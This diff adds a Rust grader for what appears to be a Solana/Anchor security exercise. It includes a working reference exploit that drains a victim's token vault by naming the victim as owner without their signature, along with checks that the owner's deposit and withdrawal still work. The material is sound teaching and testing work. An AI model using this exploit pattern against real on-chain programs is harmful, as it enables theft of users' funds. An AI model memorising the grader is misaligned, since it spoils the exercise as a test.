@@ -0,0 +1,165 @@
+use anchor_lang::{InstructionData, ToAccountMetas};
+use solana_sdk::{
+    instruction::Instruction,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    system_program, sysvar,
+};
+
+use crate::client::{expect_error, GradeResult, Grader};
+use crate::Report;
+
+pub(crate) const DEPOSIT: u64 = 1_000_000;
+
+pub(crate) struct VictimVault {
+    pub owner: Keypair,
+    pub mint: Pubkey,
+    pub vault: Pubkey,
+    pub vault_token_account: Pubkey,
+}
+
+pub fn grade(grader: &Grader) -> Report {
+    Report::new(
+        "missing-signer-check",
+        exploit(grader).map_err(|err| err.to_string()),
+        behaviour(grader).map_err(|err| err.to_string()),
+    )
+}
+
+/// Reference exploit: withdraw from a victim's vault by passing the victim's
+/// key as `owner` without their signature
+fn exploit(grader: &Grader) -> GradeResult<String> {
+    let victim = create_victim_vault(grader)?;
+    let attacker_account = grader.create_token_account(&grader.payer.pubkey(), &victim.mint)?;
+
+    grader.send(
+        &[withdraw_ix(&victim, &attacker_account, DEPOSIT)],
+        &[],
+    )?;
+
+    let stolen = grader.token_balance(&attacker_account)?;
+    let remaining = grader.token_balance(&victim.vault_token_account)?;
+    if stolen != DEPOSIT || remaining != 0 {
+        return Err(format!("attacker received {stolen}, vault still holds {remaining}").into());
+    }
+    Ok(format!("drained {stolen} tokens without the owner's signature"))
+}
+
+/// Legitimate owner flows still work and the player exercise is untouched
+fn behaviour(grader: &Grader) -> GradeResult<String> {
+    let victim = create_victim_vault(grader)?;
+    let deposited = grader.token_balance(&victim.vault_token_account)?;
+    if deposited != DEPOSIT {
+        return Err(format!("vault holds {deposited} after depositing {DEPOSIT}").into());
+    }
+
+    let owner_account = grader.create_token_account(&victim.owner.pubkey(), &victim.mint)?;
+    grader.send(
+        &[signed_by_owner(withdraw_ix(&victim, &owner_account, DEPOSIT / 2), &victim)],
+        &[&victim.owner],
+    )?;
+    let withdrawn = grader.token_balance(&owner_account)?;
+    if withdrawn != DEPOSIT / 2 {
+        return Err(format!("owner withdrew {withdrawn}, expected {}", DEPOSIT / 2).into());
+    }
+
+    let secure_withdraw = Instruction {
+        program_id: pda::ID,
+        accounts: pda::accounts::SecureWithdrawCtx {
+            vault: victim.vault,
+            vault_token_account: victim.vault_token_account,
+            token_mint: victim.mint,
+            destination: owner_account,
+            token_program: spl_token::id(),
+            owner: victim.owner.pubkey(),
+        }
+        .to_account_metas(None),
+        data: pda::instruction::SecureWithdraw { _amount: 1 }.data(),
+    };
+    let exercise = expect_error(
+        grader.send(&[signed_by_owner(secure_withdraw, &victim)], &[&victim.owner]),
+        pda::ErrorCode::NotImplemented.into(),
+    )?;
+
+    Ok(format!("deposit and owner withdraw work, secure_withdraw returns {exercise}"))
+}
+
+/// Fresh owner with a vault holding `DEPOSIT` tokens of a new mint
+pub(crate) fn create_victim_vault(grader: &Grader) -> GradeResult<VictimVault> {
+    let owner = Keypair::new();
+    grader.fund(&owner.pubkey(), 50_000_000)?;
+
+    let mint = grader.create_mint(6)?;
+    let source = grader.create_token_account(&owner.pubkey(), &mint)?;
+    grader.mint_to(&mint, &source, DEPOSIT)?;
+
+    let (vault, _) = pda::vault_address(&owner.pubkey(), 0);
+    let vault_token_account = Keypair::new();
+
+    grader.send(
+        &[
+            Instruction {
+                program_id: pda::ID,
+                accounts: pda::accounts::InitializeVault {
+                    vault,
+                    vault_token_account: vault_token_account.pubkey(),
+                    token_mint: mint,
+                    owner: owner.pubkey(),
+                    token_program: spl_token::id(),
+                    system_program: system_program::id(),
+                    rent: sysvar::rent::id(),
+                }
+                .to_account_metas(None),
+                data: pda::instruction::InitializeVault { vault_id: 0 }.data(),
+            },
+            Instruction {
+                program_id: pda::ID,
+                accounts: pda::accounts::Deposit {
+                    vault,
+                    vault_token_account: vault_token_account.pubkey(),
+                    token_mint: mint,
+                    source,
+                    owner: owner.pubkey(),
+                    token_program: spl_token::id(),
+                }
+                .to_account_metas(None),
+                data: pda::instruction::Deposit { amount: DEPOSIT }.data(),
+            },
+        ],
+        &[&owner, &vault_token_account],
+    )?;
+
+    Ok(VictimVault {
+        owner,
+        mint,
+        vault,
+        vault_token_account: vault_token_account.pubkey(),
+    })
+}
+
+fn withdraw_ix(victim: &VictimVault, destination: &Pubkey, amount: u64) -> Instruction {
+    Instruction {
+        program_id: pda::ID,
+        accounts: pda::accounts::WithdrawCtx {
+            vault: victim.vault,
+            vault_token_account: victim.vault_token_account,
+            token_mint: victim.mint,
+            destination: *destination,
+            token_program: spl_token::id(),
+            owner: victim.owner.pubkey(),
+        }
+        .to_account_metas(None),
+        data: pda::instruction::Withdraw { amount }.data(),
+    }
+}
+
+/// The program never asks for the owner's signature, so mark it explicitly
+/// when acting as the legitimate owner
+pub(crate) fn signed_by_owner(mut instruction: Instruction, victim: &VictimVault) -> Instruction {
+    for meta in &mut instruction.accounts {
+        if meta.pubkey == victim.owner.pubkey() {
+            meta.is_signer = true;
+        }
+    }
+    instruction
+}